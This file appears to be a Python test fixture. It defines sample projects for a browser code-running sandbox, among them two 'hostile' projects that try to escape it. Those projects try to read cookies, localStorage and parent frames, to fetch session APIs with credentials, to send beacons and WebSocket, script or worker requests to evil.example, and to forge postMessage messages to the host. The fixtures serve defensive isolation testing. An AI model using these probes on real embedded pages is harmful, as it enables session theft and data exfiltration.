"""Small projects that are run in the browser: some well meant, some not."""

from collections.abc import Mapping

_CLI = {
    "shop/__init__.py": "ANSWER = 42\n",
    "shop/__main__.py": """\
import sys
from . import ANSWER
from .reading import lines

print("arguments:", sys.argv[1:])
print("read:", ", ".join(lines()))
print("to the other stream", file=sys.stderr)
print("from the package:", ANSWER)
sys.exit(int(sys.argv[1]) if sys.argv[1:] else 0)
""",
    "shop/reading.py": """\
def lines():
    found = []
    while True:
        try:
            found.append(input())
        except EOFError:
            return found
""",
    "broken.py": "def half(a):\n    return a / 0\n\n\nif __name__ == '__main__':\n    half(1)\n",
    "tests/test_shop.py": """\
import unittest
from shop import ANSWER


class Answer(unittest.TestCase):
    def test_it_is_known(self):
        self.assertEqual(ANSWER, 42)

    def test_it_is_wrong(self):
        self.assertEqual(ANSWER, 41)


def test_by_function():
    assert ANSWER == 42
""",
}

_ENDLESS = {"main.py": "print('before the loop')\nn = 0\nwhile True:\n    n += 1\n"}

_FLOOD = {"main.py": "for number in range(40_000):\n    print(f'{number:06}', 'x' * 60)\n"}

_LACKING = {
    "main.py": "import requests\nfrom tools import a\n",
    "tools.py": "import numpy\ntry:\n    import uvloop\nexcept ImportError:\n    pass\na = 1\n",
    "index.html": "<script type=module>import { createApp } from 'vue'</script>",
}

_HOSTILE = {
    "main.py": '''\
import asyncio
import js
import sys

print("BEGIN")


async def tell(name, attempt):
    try:
        got = attempt()
        if asyncio.isfuture(got) or hasattr(got, "then"):
            got = await asyncio.wait_for(got, 5)
        print(f"{name}: got {str(got)[:80]}")
    except BaseException as error:
        print(f"{name}: nothing ({type(error).__name__}: {str(error)[:80]!r})")


def xhr():
    asking = js.XMLHttpRequest.new()
    asking.open("GET", BASE + "/api/sessions", False)
    asking.send()
    return asking.responseText


def first(made):
    """Settles by what a socket, a stream or a database says first."""
    return lambda: js.eval(
        "(() => new Promise((done, fail) => { const made = " + made + ";"
        "made.onopen = made.onsuccess = done; made.onerror = () => fail(new Error('no')); }))()"
    )


def urllib_():
    import urllib.request
    return urllib.request.urlopen(BASE + "/api/sessions", timeout=3).read()


BASE = sys.argv[1]


async def main():
    print("origin:", js.self.origin)
    await tell("parent", lambda: js.parent.document.title)
    await tell("document", lambda: js.document.body)
    await tell("cookie", lambda: js.document.cookie)
    await tell("localStorage", lambda: js.localStorage.length)
    await tell("fetch-api", lambda: js.fetch(BASE + "/api/sessions"))
    await tell("fetch-outside", lambda: js.fetch("http://evil.example/"))
    await tell("xhr", xhr)
    await tell("websocket", first("new WebSocket('ws://evil.example/')"))
    await tell("eventsource", first(f"new EventSource('{BASE}/api/sessions')"))
    await tell("indexeddb", first("indexedDB.open('x')"))
    await tell("import", lambda: js.eval("import('http://evil.example/x.js')"))
    await tell("urllib", urllib_)
    await tell("beacon", lambda: js.navigator.sendBeacon("http://evil.example/", "x"))
    js.postMessage(js.eval("({kind: 'text', stream: 'elsewhere', text: 'forged'})"))
    js.postMessage(js.eval("({kind: 'built', html: '<script>1</script>', notes: []})"))


asyncio.run(main())
''',
}

_FRONT = {
    "index.html": """<!doctype html>
<html lang="en"><head><title>Counter</title></head>
<body><div id="root"></div><img src="/mark.svg" alt="a mark">
<script type="module" src="/src/main.tsx"></script></body></html>
""",
    "package.json": '{"dependencies": {"react": "*", "react-dom": "*"}}',
    "public/mark.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>',
    "public/data.json": '{"text": "from a file"}',
    "src/main.tsx": """import { createRoot } from "react-dom/client";
import { App } from "./App";
import "./style.css";

createRoot(document.getElementById("root")!).render(<App title="A small counter" />);
console.error("an error that was printed");
setTimeout(() => { throw new Error("an error that was thrown"); });
fetch("/data.json").then((answer) => answer.json()).then((data) => console.log("data:", data.text));
""",
    "src/App.tsx": """import { useState } from "react";

export function App({ title }: { title: string }) {
  const [count, setCount] = useState<number>(0);
  const [kept, setKept] = useState("");
  return (
    <main>
      <h1>{title}</h1>
      <button onClick={() => setCount(count + 1)}>Count</button>
      <p>counted {count}</p>
      <form onSubmit={(event) => {
        event.preventDefault();
        localStorage.setItem("kept", String(new FormData(event.currentTarget).get("thing")));
        setKept(localStorage.getItem("kept") ?? "");
      }}>
        <input name="thing" aria-label="thing" /><button>Keep</button>
      </form>
      <p>kept: {kept}</p>
    </main>
  );
}
""",
    "src/style.css": "h1 { color: rgb(1, 2, 3); }\n",
}

_HOSTILE_FRONT = {
    "index.html": """<!doctype html><title>x</title><body>
<link rel="stylesheet" href="http://evil.example/a.css">
<img src="http://evil.example/b.png"><iframe src="http://evil.example/frame"></iframe>
<form id="f" action="http://evil.example/form" method="post"><input name="a" value="b"></form>
<script type="module" src="main.js"></script>""",
    "main.js": """
const told = (name, what) => console.log(`${name}: ${what}`);
async function tell(name, attempt) {
  try {
    const got = await Promise.race([attempt(),
      new Promise((_, fail) => setTimeout(() => fail(new Error("late")), 1500))]);
    told(name, `got ${String(got).slice(0, 80)}`);
  } catch (error) {
    told(name, `nothing (${error.name}: ${String(error.message).split("\\n")[0].slice(0, 80)})`);
  }
}
const loaded = (tag, name, url) => () => new Promise((done, fail) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded");
  element.onerror = () => fail(new Error("refused"));
  element[name] = url;
  if (tag === "link") element.rel = "stylesheet";
  document.body.append(element);
});
const first = (thing) => new Promise((done, fail) => {
  thing.onopen = done; thing.onerror = () => fail(new Error("refused"));
});
console.log("BEGIN");
told("origin", self.origin);
const at = location.href.replace(/\\/runtime.*/, "");
await tell("parent", () => parent.document.title);
await tell("top", () => top.location.href);
await tell("storage", () => parent.localStorage.length);
await tell("cookie", () => document.cookie);
await tell("opener", () => window.open("http://evil.example/open").document);
await tell("navigate-top", () => { top.location.href = "http://evil.example/top"; return "went"; });
await tell("fetch-api", () => fetch(`${at}/api/sessions`, { credentials: "include" }));
await tell("fetch-outside", () => fetch("http://evil.example/fetch", { mode: "no-cors" }));
await tell("xhr", () => new Promise((done, fail) => {
  const asking = new XMLHttpRequest();
  asking.onload = done; asking.onerror = () => fail(new Error("refused"));
  asking.open("GET", `${at}/api/sessions`); asking.send();
}));
await tell("websocket", () => first(new WebSocket("ws://evil.example/")));
await tell("eventsource", () => first(new EventSource(`${at}/api/sessions`)));
await tell("image", loaded("img", "src", "http://evil.example/image.png"));
await tell("own-image", loaded("img", "src", `${at}/mark.svg`));
await tell("script", loaded("script", "src", "http://evil.example/script.js"));
await tell("style", loaded("link", "href", "http://evil.example/style.css"));
const far = "http://evil.example/module.js";
await tell("import", () => import(far));
await tell("worker", () => new Promise((done, fail) => {
  const url = URL.createObjectURL(new Blob(["fetch('http://evil.example/w').then(" +
    "() => postMessage('got'), () => postMessage('refused'))"]));
  new Worker(url).onmessage = ({ data }) => data === "got" ? done(data) : fail(new Error(data));
}));
await tell("rtc", () => new RTCPeerConnection());
await tell("beacon", () => {
  if (navigator.sendBeacon("http://evil.example/beacon", "x")) return new Promise(() => 0);
  throw new Error("refused");
});
document.getElementById("f").submit();
parent.postMessage({ kind: "enter", script: "1" }, "*");
parent.postMessage({ kind: "failed", reason: "forged" }, "*");
const inner = document.createElement("iframe");
inner.srcdoc = "<script>parent.postMessage(typeof RTCPeerConnection, '*');" +
  "fetch('http://evil.example/srcdoc')</" + "script>";
await tell("frame", () => new Promise((done) => {
  addEventListener("message", ({ data }) => done(data));
  document.body.append(inner);
}));
console.log("END");
""",
}

_STATIC = {
    "site/index.html": """<!doctype html><html lang="en"><head><title>Plain</title>
<link rel="stylesheet" href="look.css"><link rel="stylesheet" href="https://fonts.example/f.css">
</head><body><p id="p"></p><button onclick="press()">Press</button>
<script src="page.js"></script></body></html>""",
    "site/page.js": "document.getElementById('p').textContent = 'written by a plain script';\n"
    "function press() { document.getElementById('p').textContent = 'pressed'; }\n",
    "site/look.css": "p { color: teal; }\n",
}

_HANGING = {
    "index.html": "<title>x</title><p>page</p><script>console.log('about to hang');\n"
    "setTimeout(() => { while (true); }, 3000);</script>"
}

_NPM = {
    "package.json": '{"name": "x", "scripts": {"start": "node server.js"}}',
    "server.js": "require('http').createServer((_, a) => a.end('x')).listen(3000);\n",
}

PROJECTS: Mapping[str, Mapping[str, str]] = {
    "cli": _CLI,
    "endless": _ENDLESS,
    "flood": _FLOOD,
    "lacking": _LACKING,
    "hostile": _HOSTILE,
    "front": _FRONT,
    "hostile-front": _HOSTILE_FRONT,
    "static": _STATIC,
    "hanging": _HANGING,
    "npm": _NPM,
}
